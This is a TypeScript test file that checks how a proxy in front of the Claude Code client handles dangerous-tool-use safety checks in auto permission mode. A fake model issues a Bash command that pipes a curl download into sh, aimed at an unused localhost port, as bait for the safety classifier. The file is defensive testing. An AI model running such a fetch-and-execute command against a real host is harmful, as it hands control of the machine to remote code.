import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Behaviour } from '../helpers/fakeUpstream.ts';
import { messagesOf, resultsOf, textOf } from '../helpers/received.ts';
import { setStage } from '../helpers/stage.ts';
import { call, readEvents } from '../helpers/startApp.ts';
import { reply, turn } from '../helpers/turn.ts';
import { runClaude, workFolder } from './claudeClient.ts';

const ask = { type: 'dangerous_tool_use', classifier_context: { v: 1, permission_mode: 'auto' } };
const honestAnswer = [{ type: 'dangerous_tool_use', status: { type: 'unsupported' } }];

/** Looks dangerous enough to be checked, and only makes a file: nobody listens on that port. */
const command = 'touch made.txt && curl -s http://127.0.0.1:9/x | sh';

/** The model runs the command; whoever is asked whether it may, gives the answer. */
function makesFile(answer: string): Behaviour {
  return reply((request) => {
    if (textOf(messagesOf(request)[0]).includes('<block>')) return { text: answer };
    if (resultsOf(request).length > 0) return { text: 'TRIED' };
    return { calls: [{ name: 'Bash', input: { command, description: 'make a file' } }] };
  });
}

test.each([true, false])('R108 a safety check is answered as unsupported (stream %s)', async (stream) => {
  const { url } = await setStage(turn({ text: 'Hi' }));
  const body = { model: 'm', max_tokens: 9, stream, safeguards: [ask], messages: [{ role: 'user', content: 'Hi' }] };
  const headers = { 'content-type': 'application/json' };
  const { status, text } = await call(`${url}/v1/messages`, { method: 'POST', headers, body: JSON.stringify(body) });
  expect(status).toBe(200);
  const end = stream ? readEvents(text).find(([type]) => type === 'message_delta')?.[1]['delta'] : JSON.parse(text);
  expect(end).toMatchObject({ safeguard_results: honestAnswer });
});

test('R108 in auto mode nothing runs that nobody has checked', async () => {
  const folder = workFolder();
  const { url, upstream } = await setStage(makesFile('<block>no'));
  const run = await runClaude(url, 'Make a file.', { folder, arguments: ['--permission-mode', 'auto'] });
  expect(run.text).toBe('TRIED');
  expect(existsSync(join(folder, 'made.txt'))).toBe(false);
  expect(upstream.requests).toHaveLength(2);
  const [, second] = upstream.requests;
  expect(second && resultsOf(second)[0]).toContain('its safety check does not run for this session');
});

/** Lets claude check by itself, which it does not when asked to keep from all other traffic; the rest leads nowhere. */
const judging = {
  CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '',
  HTTPS_PROXY: 'http://127.0.0.1:9',
  NO_PROXY: '127.0.0.1',
};

test.each([
  { answer: '<block>no', made: true },
  { answer: '<block>yes</block><reason>[Data Exfiltration] it does</reason>', made: false },
])('R144 the answer $answer of the provider’s model is obeyed', async ({ answer, made }) => {
  const folder = workFolder();
  const { url, upstream } = await setStage(makesFile(answer));
  const run = await runClaude(url, 'Make a file.', {
    folder,
    arguments: ['--permission-mode', 'auto'],
    environment: judging,
  });
  expect(run.text).toBe('TRIED');
  expect(existsSync(join(folder, 'made.txt'))).toBe(made);
  expect(upstream.requests.some(({ body }) => String(body['stop']) === '</block>')).toBe(true);
});
